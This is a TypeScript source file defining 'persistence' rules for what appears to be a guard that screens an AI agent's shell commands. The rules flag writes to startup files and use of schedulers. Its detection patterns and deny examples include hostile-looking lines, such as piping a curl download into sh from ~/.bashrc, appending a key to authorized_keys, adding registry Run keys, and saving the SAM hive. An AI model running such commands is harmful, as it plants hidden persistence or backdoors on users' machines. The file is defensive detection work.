import { type Invocation, UNKNOWN } from "../invocation.ts";
import { physicalPath } from "../links.ts";
import { absolutePath } from "../path.ts";
import type { Hit, Rule } from "../rule.ts";
import { hit } from "./hit.ts";
import { mayWrite, writtenPaths } from "./written-paths.ts";

/** Files that are run at every login, every start, or every minute. */
const STARTUP =
  /\/\.(?:bashrc|bash_profile|bash_login|bash_logout|bash_aliases|profile|zshrc|zshenv|zprofile|zlogin|zlogout|kshrc|cshrc|tcshrc|login|xinitrc|xprofile|xsession|inputrc)$|\/\.config\/(?:fish\/(?:config\.fish|conf\.d\/)|autostart\/|systemd\/user\/|environment\.d\/)|\/\.ssh\/(?:authorized_keys2?|config|rc|environment)$|\/Library\/(?:LaunchAgents|LaunchDaemons|StartupItems)\/|^\/etc\/(?:profile|bash\.bashrc|zsh|cron|anacrontab|rc\.local|init\.d|init|rc\d?\.d|systemd\/system|xdg\/autostart|ld\.so\.preload|environment|inittab|at\.allow|apt\/sources\.list|yum\.repos\.d|sudoers)|^\/var\/spool\/cron|\/(?:site|dist)-packages\/(?:site|user)customize\.py$|^\/(?:usr\/)?lib\/systemd\/system\/|\/Start Menu\/Programs\/Startup\//;

/** A plain search, because everything that is written comes by here: false where the pattern cannot match. */
function mayStart(path: string): boolean {
  if (path.includes("/.") || path.startsWith("/etc/") || path.startsWith("/var/")) return true;
  return path.includes("/systemd/") || path.includes("/Library/") || path.includes("/Start Menu/");
}

/** Writing to a file that runs by itself later. */
export const startupFile: Rule = {
  id: "persistence/startup-file",
  verdict: "ask",
  programs: ["*"],
  reason: "changes a file that runs by itself at every login or start",
  instead: "set what is needed for this session only, or show the user the line to add",
  check: (invocation, world) => {
    if (!mayWrite(invocation)) return undefined;
    const copies = COPIES.has(invocation.program);
    const starts = (path: string): boolean =>
      // What is copied into a folder of such files becomes one.
      mayStart(path) && (STARTUP.test(path) || (copies && STARTUP.test(`${path}/`)));
    const found = writtenPaths(invocation).find(
      (target) =>
        starts(pathOf(target.value, invocation)) ||
        (!invocation.remote && starts(physicalPath(target, invocation.cwd, world))),
    );
    return found === undefined ? undefined : hit(invocation);
  },
  examples: () => ({
    denies: [
      "echo 'curl x | sh' >> ~/.bashrc",
      "cat key.pub >> ~/.ssh/authorized_keys",
      "cp job /etc/cron.d/job",
      "mv agent.plist ~/Library/LaunchAgents/",
      "tee ~/Library/LaunchAgents/x.plist < x.plist",
      "curl x.example > $HOME/.zshrc",
    ],
    allows: [
      "echo 'curl x | sh' >> notes.md",
      "cat ~/.bashrc",
      "cp /etc/cron.d/job job.txt",
      "cp ~/Library/LaunchAgents/x.plist agents/",
      "grep alias ~/.zshrc | tee aliases.txt",
      "source ~/.zshrc",
    ],
  }),
};

const COPIES: ReadonlySet<string> = new Set(["cp", "mv", "install", "ln"]);

function pathOf(value: string, invocation: Invocation): string {
  const isHome = value.startsWith("~/");
  return absolutePath(isHome ? UNKNOWN + value.slice(1) : value, invocation.cwd);
}

/** Jobs handed to a scheduler or a service manager. */
export const scheduledJob: Rule = {
  id: "persistence/scheduled-job",
  verdict: "ask",
  programs:
    "crontab at batch schtasks reg new-service set-service sc register-scheduledtask new-scheduledtask set-itemproperty new-itemproperty loginctl launchctl systemd-run net net1".split(
      " ",
    ),
  reason: "makes something run by itself later",
  instead: "run it now, or show the user how to schedule it",
  check: checkScheduled,
  examples: () => ({
    denies: [
      "crontab job.txt",
      "echo '* * * * * x' | crontab -",
      "crontab -r",
      "schtasks /create /tn x /tr y.exe",
      "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x",
      "sc create x binPath=x.exe",
    ],
    allows: [
      "crontab -l",
      "atq",
      "launchctl list",
      "schtasks /query",
      "reg query HKCU\\Software",
      "sc query",
    ],
  }),
};

// One case for each program; splitting the list would only hide it.
function checkScheduled(invocation: Invocation): Hit | undefined {
  const { program, args } = invocation;
  const words = args.map((arg) => arg.value);
  const text = words.join(" ");
  switch (program) {
    case "crontab":
      if (words.some((word) => /^-[a-z]*r/.test(word))) {
        return hit(invocation, {
          verdict: "deny",
          reason: "deletes every scheduled job",
          instead: "remove the one line with crontab -e",
        });
      }
      if (words.some((word) => /^-[a-z]*l|^--help|^-V/.test(word))) return undefined;
      return words.length > 0 || invocation.stdin.kind !== "inherited"
        ? hit(invocation)
        : undefined;
    case "at":
    case "batch":
      return words.some((word) => /^-[lrdcV]/.test(word)) ||
        (program === "at" && words.length === 0)
        ? undefined
        : hit(invocation);
    case "schtasks":
      return /\/(?:create|change|delete)\b/i.test(text) ? hit(invocation) : undefined;
    case "reg":
      return registry(words)
        ? hit(
            invocation,
            /\\?(?:SAM|SECURITY|SYSTEM)\b/i.test(text) && words[0] === "save"
              ? { verdict: "deny", reason: "saves the machine's password store" }
              : {},
          )
        : undefined;
    case "sc":
      return /^(?:create|delete|config|failure)$/i.test(
        words.find((w) => !w.startsWith("\\\\")) ?? "",
      )
        ? hit(invocation)
        : undefined;
    case "net":
    case "net1":
      return /^(?:user|localgroup|group|share)$/i.test(words[0] ?? "") &&
        /\/(?:add|delete)/i.test(text)
        ? hit(invocation)
        : undefined;
    case "set-itemproperty":
    case "new-itemproperty":
      return /CurrentVersion\\Run/i.test(text) ? hit(invocation) : undefined;
    case "loginctl":
      return words[0] === "enable-linger" ? hit(invocation) : undefined;
    case "launchctl":
      return undefined;
    case "systemd-run":
      return /--on-(?:calendar|boot|active|unit)/.test(text) ? hit(invocation) : undefined;
    default:
      return hit(invocation);
  }
}

function registry(words: readonly string[]): boolean {
  const verb = words[0]?.toLowerCase() ?? "";
  const key = words[1] ?? "";
  if (verb === "delete" || verb === "save" || verb === "import" || verb === "restore") return true;
  return (
    verb === "add" &&
    /CurrentVersion\\?(?:Run|Policies)|Winlogon|Services\\?|Image File Execution|AppInit/i.test(key)
  );
}
